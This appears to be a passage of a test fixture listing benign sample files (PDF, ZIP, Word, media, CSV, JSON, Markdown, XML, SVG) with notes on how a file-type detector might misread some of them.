  { name: "report.pdf", bytes: samples.pdf(), why: "a PDF" },
  { name: "bundle.zip", bytes: samples.zip(), why: "a ZIP" },
  { name: "letter.docx", bytes: samples.docx(), why: "a Word document" },
  { name: "plain-zip.docx", bytes: samples.zip(), why: "a ZIP file-type cannot name more precisely, as .docx" },
  { name: "legacy.doc", bytes: samples.word97(), why: "a Word 97-2003 document" },
  { name: "legacy.xls", bytes: samples.word97(), why: "an OLE compound file named .xls" },
  { name: "clip.mp4", bytes: samples.mp4(), why: "an MP4" },
  { name: "beep.wav", bytes: samples.wav(), why: "a WAV" },
  { name: "notes.txt", bytes: samples.text("Meeting notes\n- ship it\n"), why: "plain text" },
  { name: "table.csv", bytes: samples.text("name,amount\nAlice,3\n"), why: "a CSV" },
  { name: "bmw.txt", bytes: samples.text("BMW report, 2024\nAll good.\n"), why: "text that file-type calls a BMP" },
  { name: "people.csv", bytes: samples.text("MZ Smith,42\nGIFT,7\n"), why: "text that file-type calls a program" },
  { name: "unicode.csv", bytes: samples.utf16("name,amount\r\nZo\u00eb,3\r\n"), why: "UTF-16 CSV with a BOM" },
  { name: "data.json", bytes: samples.text('{"a": [1, 2, "<b>"]}'), why: "JSON" },
  { name: "readme.md", bytes: samples.text("# Title\n\nSome *text* and `<script>` in code.\n"), why: "Markdown" },
  { name: "feed.xml", bytes: samples.text('<?xml version="1.0"?>\n<feed><title>x</title></feed>'), why: "XML" },
  { name: "love.txt", bytes: samples.text("<3 you\n"), why: "text starting with <" },
  {
    name: "logo.svg",
    bytes: samples.text('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>'),
    why: "a plain SVG",
  },
]);
